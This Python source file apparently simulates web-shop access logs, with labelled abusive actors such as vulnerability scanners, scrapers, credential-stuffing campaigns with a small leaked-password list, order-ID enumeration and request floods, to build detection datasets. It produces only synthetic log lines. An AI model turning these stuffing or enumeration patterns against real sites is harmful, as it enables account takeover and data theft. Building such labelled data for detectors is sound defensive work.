EXISTING = [
    "/",
    "/robots.txt",
    "/sitemap.xml",
    "/login",
    "/favicon.ico",
    "/.well-known/security.txt",
]
JUNK = ["-", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", "CONNECT example.com:443 HTTP/1.1"]


def scanner(sim: Sim) -> None:
    """A vulnerability scanner: probes for known paths, sometimes fuzzing parameters too."""
    r = sim.r
    ua = r.choice(SCANNER_UAS).format(n=r.randint(20, 32))
    c = Client(sim.log.ip(), ua, "scanner", enc=r.choice(["loose", "form", "uri"]))
    t = r.uniform(0, sim.span)
    fast = r.random() < 0.75
    probes = r.sample(PROBES, min(len(PROBES), r.randint(15, 120)))
    probes += r.sample(EXISTING, r.randint(1, 4))
    if r.random() < 0.5:
        probes.sort()  # wordlist order
    else:
        r.shuffle(probes)
    for path in probes:
        if path in EXISTING:
            req = Request("GET", path, size=r.randint(400, 30000))
        else:
            target, _, query = path.partition("?")
            status = r.choices([404, 403, 301, 400], [85, 8, 5, 2])[0]
            req = Request("GET", target, status=status, size=r.randint(150, 5200), kind="probe")
            req.raw_query = query
        method = "HEAD" if r.random() < 0.05 else req.method
        req.method = method
        sim.log.emit(t, c, req, "-")
        t += r.uniform(0.02, 0.4) if fast else r.uniform(3, 40)
    if r.random() < 0.4:
        for _ in range(r.randint(10, 60)):
            sim.attack(c, t, r.choice(PAYLOAD_KINDS), api=r.random() < 0.4, ref="-")
            t += r.uniform(0.05, 0.6) if fast else r.uniform(3, 30)
    if r.random() < 0.3:
        junk = r.choice(JUNK)
        sim.log.emit(t, c, Request("-", junk, status=400, size=0, kind="probe"), "-")


def scraper(sim: Sim) -> None:
    """Walks the listings page by page and fetches every product on them."""
    r, shop = sim.r, sim.shop
    ua = r.choice(SCRAPER_UAS) if r.random() < 0.5 else browser_ua(r)
    c = Client(sim.log.ip(), ua, "scraper", enc=r.choice(["form", "uri"]))
    api = r.random() < 0.4
    fast = r.random() < 0.6
    t = r.uniform(0, sim.span)
    budget = min(1000, 100 + int(r.expovariate(1 / 200)))
    if r.random() < 0.2:
        sim.log.emit(t, c, Request("GET", "/robots.txt", size=412), "-")
    categories = r.sample(CATEGORIES, len(CATEGORIES))
    per_page = r.choice([24, 48, 96]) if api else 24
    while budget > 0 and categories:
        category = categories.pop()
        for page in range(1, r.randint(4, 30)):
            q = [("category", category), ("page", str(page))]
            if api:
                q.append(("per_page", str(per_page)))
            path = "/api/v1/products" if api else "/products"
            sim.log.emit(t, c, Request("GET", path, q, size=r.randint(20000, 80000)), "-")
            budget -= 1
            t += r.uniform(0.2, 1.2) if fast else r.uniform(3, 12)
            for _ in range(r.randint(per_page // 2, per_page)):
                pid = shop.product()
                path = f"/api/v1/products/{pid}" if api else f"/products/{pid}"
                sim.log.emit(t, c, Request("GET", path, size=r.randint(3000, 60000)), "-")
                budget -= 1
                t += r.uniform(0.2, 1.2) if fast else r.uniform(3, 12)
            if budget <= 0:
                break


LEAKED_PASSWORDS = ["123456", "password1", "qwerty", "iloveyou", "Summer2023!", "abc123", "111111"]


def stuffing(sim: Sim) -> None:
    """A credential stuffing campaign: many addresses, a few login attempts each, mostly 401."""
    r, shop = sim.r, sim.shop
    uas = [browser_ua(r) for _ in range(r.randint(2, 8))]
    api = r.random() < 0.4
    t0 = r.uniform(0, sim.span * 0.9)
    duration = r.uniform(1800, 6 * 3600)
    for _ in range(r.randint(20, 120)):
        c = Client(sim.log.ip(v6_share=0.1), r.choice(uas), "stuffing")
        t = t0 + r.uniform(0, duration)
        if not api and r.random() < 0.3:
            sim.log.emit(t, c, Request("GET", "/login", size=r.randint(18000, 22000)), "-")
            t += r.uniform(0.3, 3)
        for _ in range(r.randint(1, 6)):
            ok = r.random() < 0.03
            req = shop.api_login(ok) if api else shop.login_form(ok)
            if r.random() < 0.4:  # a password from a leak list, not the person's own
                if req.json is not None:
                    req.json["password"] = r.choice(LEAKED_PASSWORDS)
                elif req.form is not None:
                    req.form[2] = ("password", r.choice(LEAKED_PASSWORDS))
            ref = "-" if api else f"{SITE}/login"
            sim.log.emit(t, c, req, ref)
            t += r.uniform(1, 20)


def enumeration(sim: Sim) -> None:
    """Walks ids one by one on a route that needs the right owner (mostly 403/404)."""
    r, shop = sim.r, sim.shop
    ua = r.choice(["python-requests/2.31.0", "curl/8.4.0"]) if r.random() < 0.4 else browser_ua(r)
    c = Client(sim.log.ip(), ua, "enumeration")
    t = r.uniform(0, sim.span)
    sim.log.emit(t, c, shop.api_login(ok=True), "-")
    t += r.uniform(1, 10)
    route = r.choices(["api", "html", "invoice"], [6, 2, 2])[0]
    start = r.randint(4_000_000, 4_900_000) if route != "invoice" else r.randint(1, 90000)
    fast = r.random() < 0.6
    n = start
    for _ in range(r.randint(60, 400)):
        n += 1 if r.random() < 0.8 else r.randint(2, 4)
        status = r.choices([403, 404, 200], [7, 2, 1])[0]
        if route == "api":
            req = Request("GET", f"/api/v1/orders/{n}", status=status, size=r.randint(60, 3000))
        elif route == "html":
            req = Request("GET", f"/orders/{n}", status=status, size=r.randint(3000, 30000))
        else:
            req = Request(
                "GET", "/account/invoice", [("file", f"invoice-2024-{n:05d}.pdf")], status=status
            )
        sim.log.emit(t, c, req, "-" if route == "api" else f"{SITE}/account/orders")
        t += r.uniform(0.08, 0.6) if fast else r.uniform(1.5, 8)


def flood(sim: Sim) -> None:
    """Tens of requests a second at one route until the rate limiter answers 429."""
    r, shop = sim.r, sim.shop
    ua = r.choice(["ApacheBench/2.3", "Go-http-client/1.1", "python-aiohttp/3.9", browser_ua(r)])
    c = Client(sim.log.ip(), ua, "flood")
    target = r.choice(["home", "search", "listing", "api_products", "api_login", "api_search"])
    fixed = shop.html("search") if target == "search" else None
    rate = r.uniform(5, 30)
    t = r.uniform(0, sim.span)
    limit_at = t + r.uniform(3, 20)
    for _ in range(min(5000, int(rate * r.uniform(10, 45)))):
        if target.startswith("api_"):
            req = shop.api(target[4:]) if target != "api_login" else shop.api_login(ok=False)
        elif fixed is not None and r.random() < 0.8:
            req = Request("GET", fixed.path, list(fixed.query), size=fixed.size)
        else:
            req = shop.html(target if target != "search" else "search")
        if t > limit_at and r.random() < 0.9:
            req.status, req.size = r.choice([429, 429, 503]), 162
        sim.log.emit(t, c, req, "-")
        t += r.expovariate(rate)


def payload(sim: Sim) -> None:
    """An otherwise normal visitor each of whose visits (sessions) carries a few payload requests.

    Every visit gets payloads of its own: a session that carried none would be an ordinary
    visit labelled abusive, which no verdict on that session could catch.
    """
    r = sim.r
    kinds = r.sample(PAYLOAD_KINDS, r.choice([1, 1, 2, 3]))
    web = r.random() < 0.6
    ua = browser_ua(r) if web or r.random() < 0.5 else app_ua(r)
    c = Client(sim.log.ip(), ua, "payload", enc=r.choice(["form", "uri", "loose"]))
    browsing = r.random() < 0.55
    for t in _sessions(sim, 1 + int(r.expovariate(2))):
        attack = Attack(kinds, r.randint(2, 14))
        if browsing:
            browse(sim, c, t, max(attack.left + 2, 2 + int(r.expovariate(1 / 9))), attack=attack)
        else:
            calls = max(2 * attack.left + 5, 15 + int(r.expovariate(1 / 40)))
            app_session(sim, c, t, calls, web, attack)


# ---------------------------------------------------------------------------- the log


def _dashboard(sim: Sim) -> None:
    ua = sim.r.choice(["Grafana/10.2.3", "python-requests/2.31.0", "curl/8.4.0", browser_ua(sim.r)])
    dashboard(sim, Client(sim.log.ip(v6_share=0.0), ua, "dashboard"))


def _crawler(sim: Sim) -> None:
    ua, ip = sim.r.choice(CRAWLERS)
    crawler(sim, Client(ip.format(a=sim.r.randint(0, 255), b=sim.r.randint(1, 254)), ua, "crawler"))


def _spa(sim: Sim) -> None:
    r = sim.r
    web = r.random() < 0.55
    ua = browser_ua(r) if web else app_ua(r)
    spa(sim, Client(sim.log.ip(), ua, "spa", ascii_json=not web and r.random() < 0.5), web)


def _human(sim: Sim, kind: str = "human") -> None:
    r = sim.r
    c = Client(sim.log.ip(), browser_ua(r), kind, enc=r.choice(["form", "form", "uri"]))
    human(sim, c, typo_rate=r.uniform(0.12, 0.3) if kind == "typo" else 0.0)


ACTORS: dict[str, Callable[[Sim], None]] = {
    "human": _human,
    "spa": _spa,
    "dashboard": _dashboard,
    "crawler": _crawler,
    "nat": nat,
    "typo": lambda sim: _human(sim, "typo"),
    "platform": platform,
    "scraper": scraper,
    "stuffing": stuffing,
    "enumeration": enumeration,
    "scanner": scanner,
    "flood": flood,
    "payload": payload,
}


def _kinds(r: random.Random, clients: int, abuse_share: float) -> list[str]:
    """The actors' kinds: every kind at least once, the rest drawn by share."""
    n_abuse = max(len(ABUSE_KINDS), round(clients * abuse_share)) if abuse_share > 0 else 0
    n_normal = max(len(NORMAL_KINDS), clients - n_abuse)
    kinds = list(NORMAL_KINDS) + r.choices(
        list(NORMAL_SHARES), list(NORMAL_SHARES.values()), k=n_normal - len(NORMAL_KINDS)
    )
    if n_abuse:
        kinds += list(ABUSE_KINDS) + r.choices(
            list(ABUSE_SHARES), list(ABUSE_SHARES.values()), k=n_abuse - len(ABUSE_KINDS)
        )
    r.shuffle(kinds)
    return kinds


def simulate(
    clients: int,
    seed: int,
    hours: float = 24.0,
    abuse_share: float = 0.15,
    only: str | None = None,
) -> tuple[list[str], pd.DataFrame]:
    """The access log's lines (sorted by time) and one label row per line.

    Args:
        clients: actors to simulate (a person, a bot, a NAT gateway, a stuffing campaign).
        seed: the random seed; the same arguments give the same log.
        hours: the time the log spans (sessions that start late may run a little past it).
        abuse_share: the share of actors that are abusive.
        only: every actor of this kind instead (`abuse_share` unused): many examples of one
            kind against the same shop (the catalogue and names come from `seed` first), to
            measure one kind's rates on more than the few a mixed log holds.

    Returns:
        The lines, and a frame `line, client_ip, user_agent, client_kind, request_kind,
        is_attack` in line order.
    """
    sim = Sim(seed, hours * 3600)
    if only is not None and only not in ACTORS:
        raise ValueError(f"unknown kind {only!r}; the kinds are {', '.join(ACTORS)}")
    kinds = [only] * clients if only is not None else _kinds(sim.r, clients, abuse_share)
    for kind in kinds:
        ACTORS[kind](sim)
    events = sorted(sim.log.events, key=lambda e: e.time)  # stable: ties keep their order
    lines = [
        format_line(
            e.client.ip,
            START + e.time,
            e.method,
            e.path,
            e.query,
            "HTTP/1.1",
            e.status,
            e.size,
            e.referrer,
            e.client.ua,
            e.body,
            tz_minutes=TZ_MINUTES,
        )
        for e in events
    ]
    labels = pd.DataFrame(
        {
            "line": range(1, len(events) + 1),
            "client_ip": [e.client.ip for e in events],
            "user_agent": [e.client.ua for e in events],
            "client_kind": [e.client.kind for e in events],
            "request_kind": [e.kind for e in events],
            "is_attack": [int(e.kind != "normal") for e in events],
        }
    )
    return lines, labels


def write(out_dir: Path, **params: object) -> tuple[Path, Path]:
    """Simulate (keyword arguments as `simulate`) and write `access.log` and `labels.csv`."""
    lines, labels = simulate(**params)  # type: ignore[arg-type]
    out_dir.mkdir(parents=True, exist_ok=True)
    log_path, labels_path = out_dir / "access.log", out_dir / "labels.csv"
    with log_path.open("w", encoding="utf-8", newline="\n") as f:
        for line in lines:
            f.write(line + "\n")
    labels.to_csv(labels_path, index=False)
    log.info("wrote %d lines to %s", len(lines), log_path)
    return log_path, labels_path
